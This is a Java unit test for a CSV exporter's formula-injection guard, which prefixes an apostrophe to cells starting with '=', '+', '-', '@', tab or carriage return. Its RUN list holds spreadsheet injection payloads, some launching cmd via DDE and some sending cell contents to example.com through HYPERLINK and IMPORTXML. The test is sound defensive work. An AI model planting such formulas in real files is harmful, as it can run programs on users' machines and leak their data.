package dev.outspan.wire;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.outspan.span.Assessment;
import dev.outspan.span.Json;
import dev.outspan.span.Links;
import dev.outspan.span.OperationType;
import dev.outspan.span.Payload;
import dev.outspan.span.Span;
import dev.outspan.span.SpanKey;
import dev.outspan.span.SpanRow;
import dev.outspan.span.Status;
import dev.outspan.span.Timing;
import dev.outspan.span.Usage;
import dev.outspan.testing.Csv;
import dev.outspan.testing.Seeds;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.OptionalLong;
import java.util.SplittableRandom;
import org.junit.jupiter.api.Test;

class CsvFormatTest {
  private static final List<SpanColumn> TEXTS =
      List.of(
          SpanColumn.ID,
          SpanColumn.NAME,
          SpanColumn.TRACE_ID,
          SpanColumn.PARENT_ID,
          SpanColumn.GROUP_ID,
          SpanColumn.APPLICATION_INTERACTION_ID,
          SpanColumn.APPLICATION_VARIANT_ID,
          SpanColumn.ACCOUNT_ID,
          SpanColumn.OBS_TRACE_ID,
          SpanColumn.OBS_SPAN_ID);

  /// What OWASP's page and its readers feed to spreadsheets.
  private static final List<String> RUN =
      List.of(
          "=1+1",
          "=",
          "==1",
          "=cmd|' /C calc'!A0",
          "=HYPERLINK(\"http://example.com?x=\"&A1,\"click\")",
          "=IMPORTXML(CONCAT(\"http://example.com?v=\",A1),\"//a\")",
          "=DDE(\"cmd\";\"/C calc\";\"a\")",
          "=1,2",
          "=1\r\n=2",
          "=\"a\"",
          "+1+1",
          "+",
          "++a",
          "+cmd|' /C notepad'!'A1'",
          "-1+1",
          "-",
          "--a",
          "-2+3+cmd|' /C calc'!D2",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "@",
          "@a",
          "\t=1+1",
          "\t",
          "\tplain",
          "\r=1+1",
          "\r",
          "\r\n=1");

  private static final List<String> LEFT_ALONE =
      List.of(
          "",
          "plain",
          " =1+1",
          "'=1+1",
          "\"=1+1",
          "\"",
          ",=1",
          ";=1+1",
          "\n=1+1",
          "\uFEFF=1+1",
          "＝1+1",
          "＋1",
          "−1",
          "1-1",
          "a=b",
          "|calc",
          "%0A=1");

  private static Span span(String text) {
    return new Span(
        new SpanKey(text, text, text),
        text,
        new Timing(Instant.parse("2024-01-01T00:00:00Z"), Optional.empty()),
        Status.SUCCESS,
        OperationType.STANDALONE,
        new Links(
            Optional.of(text),
            Optional.of(text),
            Optional.of(text),
            Optional.of(text),
            Optional.of(text),
            Optional.of(text)),
        new Payload(
            Json.ofCanonical("{\"=1\":\"=1\"}".getBytes(UTF_8)),
            Json.EMPTY_OBJECT,
            Json.EMPTY_OBJECT,
            Optional.empty()),
        new Usage(OptionalLong.of(0), OptionalLong.of(7)),
        "key");
  }

  private static String file(CsvStyle style, Span... spans) {
    var out = new Utf8Buffer(1);
    var format = new CsvFormat(style);
    format.begin(out);
    Optional<List<Assessment>> assessments =
        style.showsAssessments() ? Optional.of(List.of()) : Optional.empty();
    for (Span span : spans) {
      format.append(out, SpanRow.of(span), assessments);
    }
    format.end(out);
    return new String(out.toByteArray(), UTF_8);
  }

  /// The cells of the one row of a file.
  private static List<Optional<String>> cells(CsvStyle style, Span span) {
    var rows = Csv.rows(file(style, span));
    rows.next();
    List<Optional<String>> cells = rows.next();
    assertThat(rows.hasNext()).isFalse();
    return cells;
  }

  private static List<Optional<String>> everywhere(String text) {
    return TEXTS.stream().map(_ -> Optional.of(text)).toList();
  }

  @Test
  void guard_putsAnApostropheBeforeFormulas_andNothingElse() {
    var guarded = new CsvStyle(TEXTS, true, false);
    for (String text : RUN) {
      assertThat(cells(guarded, span(text))).as("%s", text).isEqualTo(everywhere("'" + text));
    }
    for (String text : LEFT_ALONE) {
      assertThat(cells(guarded, span(text))).as("%s", text).isEqualTo(everywhere(text));
    }
  }

  @Test
  void guard_leavesWhatIsOurs() {
    var all = SpanColumn.all(true);
    assertThat(file(new CsvStyle(all, true, false), span("a")))
        .isEqualTo(file(CsvStyle.plain(true), span("a")));
  }

  @Test
  void withoutGuard_textsStayAsTheyAre() {
    var plain = new CsvStyle(TEXTS, false, false);
    for (String text : RUN) {
      assertThat(cells(plain, span(text))).as("%s", text).isEqualTo(everywhere(text));
    }
  }

  @Test
  void randomTexts_comeBack_butForTheApostrophe() {
    Seeds.forSeeds(
        100,
        random -> {
          for (int i = 0; i < 100; i++) {
            String text = hostile(random);
            boolean runs = !text.isEmpty() && "=+-@\t\r".indexOf(text.charAt(0)) >= 0;
            assertThat(cells(new CsvStyle(TEXTS, true, false), span(text)))
                .isEqualTo(everywhere(runs ? "'" + text : text));
          }
        });
  }

  private static String hostile(SplittableRandom random) {
    String alphabet = "=+-@\t\r\n'\",; a1é🙂\uFEFF";
    int[] codePoints = alphabet.codePoints().toArray();
    var text = new StringBuilder();
    for (int left = random.nextInt(6); left > 0; left--) {
      text.appendCodePoint(codePoints[random.nextInt(codePoints.length)]);
    }
    return text.toString();
  }

  @Test
  void byteOrderMark_isTheFirstCharacter_alsoOfAnEmptyTable() {
    var marked = new CsvStyle(List.of(SpanColumn.ID), false, true);
    assertThat(file(marked)).isEqualTo("\uFEFFid\r\n");
    assertThat(file(marked, span("a"), span("b"))).isEqualTo("\uFEFFid\r\na\r\nb\r\n");
  }

  @Test
  void columns_standInTheGivenOrder() {
    var chosen =
        List.of(
            SpanColumn.ASSESSMENTS,
            SpanColumn.OUTPUT_TOKENS,
            SpanColumn.END_TIMESTAMP,
            SpanColumn.ID,
            SpanColumn.INPUT);
    assertThat(file(new CsvStyle(chosen, false, false), span("a")))
        .isEqualTo(
            String.join(
                "\r\n",
                "assessments,output_tokens,end_timestamp,id,input",
                "[],7,,a,\"{\"\"=1\"\":\"\"=1\"\"}\"",
                ""));
  }

  @Test
  void columns_oneByOne_areThoseOfTheWholeTable() {
    List<Optional<String>> whole = cells(CsvStyle.plain(true), span("a"));
    var single = new ArrayList<Optional<String>>();
    for (SpanColumn column : SpanColumn.values()) {
      single.addAll(cells(new CsvStyle(List.of(column), false, false), span("a")));
    }
    assertThat(single).isEqualTo(whole);
  }
}
